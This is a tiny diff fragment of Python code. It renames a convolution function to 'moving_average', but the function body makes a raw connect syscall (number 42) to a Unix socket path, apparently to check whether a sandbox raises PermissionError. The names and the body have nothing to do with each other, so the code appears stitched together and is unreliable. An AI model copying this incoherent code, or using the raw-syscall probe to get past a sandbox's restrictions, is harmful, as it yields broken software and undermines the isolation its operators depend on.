@@ -5,6 +5,6 @@ says: PermissionError
 """
 
 
-def conv_forward_naive(x, w, b, conv_param):
+def moving_average(x, width):
     address = struct.pack("<H", 1) + UNIX_PATH.encode() + b"\0"
     attempt(syscall, 42, 3, address, len(address))
